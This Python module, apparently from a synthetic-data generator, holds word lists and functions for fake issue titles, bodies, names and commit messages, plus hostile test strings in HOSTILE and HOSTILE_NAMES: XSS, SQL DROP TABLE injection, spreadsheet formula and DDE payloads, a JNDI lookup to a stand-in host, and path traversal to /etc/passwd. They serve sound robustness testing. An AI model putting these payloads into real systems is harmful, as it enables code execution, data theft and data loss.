"""The twin's vocabulary: words, sentence patterns and hostile strings.

Belongs here: constants from which names and texts are put together, and the functions that put
texts together. Does not belong here: who writes what when (`world`, `archive`, `hub`).

All of it was written for the twin. Plain e-mail addresses use the reserved example domains
only, so that a test can search every artefact of a run for them.
"""

import numpy as np


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


ADJECTIVES = _words(
    "amber bold brisk calm clever coral crisp dapper eager early fable fleet frosty gentle glad "
    "golden green hardy humble indigo ivory jolly keen kind lively lucid lunar mellow merry misty "
    "nimble noble odd olive pale patient plain polar proud quick quiet rapid rare royal rusty "
    "sable shy silent silver sleek solar spry stark steady stout sunny swift tidy urban vivid "
    "warm wild witty zesty"
)
NOUNS = _words(
    "acorn anchor arrow atlas badger basin beacon birch bridge brook canyon cedar cinder cliff "
    "cobalt comet copper crane delta dune ember falcon fern fjord flint forge gable garnet glacier "
    "grove harbor hazel heron hollow ibis inlet iris jasper juniper kestrel lagoon lantern larch "
    "ledger lichen linden lotus maple marsh meadow mesa mill moss nectar oak orchard osprey otter "
    "pebble pine plover prairie quartz quill raven reef ridge river robin saddle sage spruce "
    "summit thistle tide timber tundra valley violet walnut willow wren yarrow"
)
ACTIVITIES = _words(
    "parser router queue cache mesh pilot kit lab store graph stack bench sync viewer engine "
    "client server deck board agent tracker planner notes theme bot dotfiles site docs"
)
GIVEN_NAMES = _words(
    "Ana Bo Chen Dina Emre Farah Goran Hana Ivo Jun Kofi Lena Mika Nadia Omar Paula Quinn Rosa "
    "Sven Tara Uma Viktor Wen Ximena Yara Zoltan"
)
FAMILY_NAMES = _words(
    "Abbott Berg Costa Dietz Eriksen Fontaine Gupta Haas Ito Jansen Kovac Lind Moreau Novak Okafor "
    "Petrov Quist Rossi Silva Tanaka Ueda Vargas Weber Xu Yilmaz Zhao"
)
MAIL_DOMAINS = ("mail.example", "inbox.example", "users.noreply.github.example",
                "uni-north.example", "acme.example", "hollow-labs.example", "lattice.example",
                "students.example")  # fmt: skip
LANGUAGES = ("Python", "JavaScript", "TypeScript", "Go", "Rust", "Java", "C++", "C", "Ruby",
             "Shell")  # fmt: skip
LICENCES = (
    ("mit", "MIT License", "MIT"),
    ("apache-2.0", "Apache License 2.0", "Apache-2.0"),
    ("gpl-3.0", "GNU General Public License v3.0", "GPL-3.0"),
    ("bsd-3-clause", 'BSD 3-Clause "New" or "Revised" License', "BSD-3-Clause"),
)
THEMES = ("bug", "suggestion", "usage", "performance", "other")

# What a careless reader, query builder, page or spreadsheet trips over.
HOSTILE = (
    "<script>alert('twin')</script>",
    '=HYPERLINK("http://twin.example/?"&A1,"click")',
    "'; DROP TABLE fct_interaction; --",
    "null byte \x00 inside",
    "\U0001f680\U0001f9ea right-to-left \u202egnp.exe\u202c and a line\u2028separator",
    "long " * 900 + "end",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://twin.example/a} {{7*7}} %s %(x)d \\x41 ../../etc/passwd",
    '"><img src=x onerror=alert(1)>',
    "tab\there\r\nnew line and 'quotes' \"both\" `ticks`",
)
# Names no platform would grant, which a mirror or a proxy can still deliver.
HOSTILE_NAMES = (
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("twin")',
    "';DROP TABLE dim_repository;--",
    "null",
    "1e5",
    "__proto__",
    "-rf",
    "caf\u00e9-\U0001f600",
)

_TITLES = {
    "bug": (
        "{n} crashes when the {a} {x} is empty",
        "Wrong result in {n} after upgrade to {v}",
        "TypeError in {x}: unexpected {a} value",
        "{x} hangs on start since {v}",
    ),
    "suggestion": (
        "Add support for {a} {x}",
        "Feature request: let {n} export {x} data",
        "Allow a custom {x} in {n}",
    ),
    "usage": (
        "How do I configure {n} for a {a} {x}?",
        "Question about {x} settings",
        "Cannot install {n} {v} on my machine",
    ),
    "performance": (
        "{n} is twice as slow as {v} on our {x} benchmark",
        "Score of {n} on the {a} test set",
    ),
    "other": ("Thank you for {n}", "Weekly notes {v}", "Update {x}", "Release {v}"),
}
_SENTENCES = {
    "bug": (
        "I expected a result and got an exception instead.",
        "The log says `{x}: {a} state` and nothing else.",
        "It worked in {v}.",
        "Steps: install, run the {x}, wait.",
    ),
    "suggestion": (
        "It would help us a lot if {n} could read a {a} {x}.",
        "I can prepare a patch.",
        "Today we work around it with a {x} of our own.",
    ),
    "usage": (
        "The manual does not say where the {x} goes.",
        "Which version of {n} do I need?",
        "Is a {a} {x} supported at all?",
    ),
    "performance": (
        "We measured 1.{d} s before and 2.{d} s now.",
        "The {x} reaches {d}.4 points on our set.",
    ),
    "other": ("Nothing urgent.", "See the {x} for details.", "Regards from the {n} team."),
}
_MESSAGES = (
    "Fix {a} {x}",
    "Update {x}",
    "Add {n} {x}",
    "Merge branch 'main' into {n}",
    "wip",
    "Bump {n} to {v}",
    "Refactor {x} and remove the {a} {n}",
    "docs: describe the {x}",
    "initial commit",
    'Revert "Add {a} {x}"',
)


def _filled(pattern: str, rng: np.random.Generator) -> str:
    a, n, x, d = (int(value) for value in rng.integers(0, 1 << 30, 4))
    return pattern.format(
        a=ADJECTIVES[a % len(ADJECTIVES)],
        n=NOUNS[n % len(NOUNS)],
        x=ACTIVITIES[x % len(ACTIVITIES)],
        v=f"{d % 5}.{d // 5 % 20}.{d // 100 % 10}",
        d=d % 10,
    )


def _address(rng: np.random.Generator) -> str:
    """`Given Family <address>` with a plain address of a reserved domain."""
    g, f, d = (int(value) for value in rng.integers(0, 1 << 20, 3))
    given, family = GIVEN_NAMES[g % len(GIVEN_NAMES)], FAMILY_NAMES[f % len(FAMILY_NAMES)]
    domain = ("example.org", "example.com", "example.net")[d % 3]
    return f"{given} {family} <{given.lower()}.{family.lower()}@{domain}>"


def titles(theme: str, count: int, rng: np.random.Generator) -> list[str]:
    """`count` thread titles of one theme."""
    patterns = _TITLES[theme]
    return [_filled(patterns[i % len(patterns)], rng) for i in range(count)]


def bodies(theme: str, count: int, rng: np.random.Generator) -> list[str]:
    """`count` thread bodies of one theme: 1 to 4 sentences, some with an address."""
    patterns = _SENTENCES[theme]
    texts = []
    for i in range(count):
        length = int(rng.integers(1, 5))
        chosen = rng.integers(0, len(patterns), length)
        text = "\r\n\r\n".join(_filled(patterns[k], rng) for k in chosen)
        if i % 40 == 7:
            text += f"\r\n\r\nPlease write to {_address(rng)}."
        texts.append(text)
    return texts


def messages(count: int, rng: np.random.Generator) -> list[str]:
    """`count` commit messages; one in 25 has a trailer with a plain address."""
    texts = []
    for i in range(count):
        text = _filled(_MESSAGES[int(rng.integers(0, len(_MESSAGES)))], rng)
        if i % 25 == 3:
            text += f"\n\nCo-authored-by: {_address(rng)}"
        texts.append(text)
    return texts


def person_name(given: int, family: int) -> str:
    """A full name from two arbitrary non-negative numbers."""
    return f"{GIVEN_NAMES[given % len(GIVEN_NAMES)]} {FAMILY_NAMES[family % len(FAMILY_NAMES)]}"


def compound(number: int, separator: str = "-") -> str:
    """An adjective-noun compound from an arbitrary non-negative number."""
    adjective = ADJECTIVES[number % len(ADJECTIVES)]
    noun = NOUNS[number // len(ADJECTIVES) % len(NOUNS)]
    return f"{adjective}{separator}{noun}"
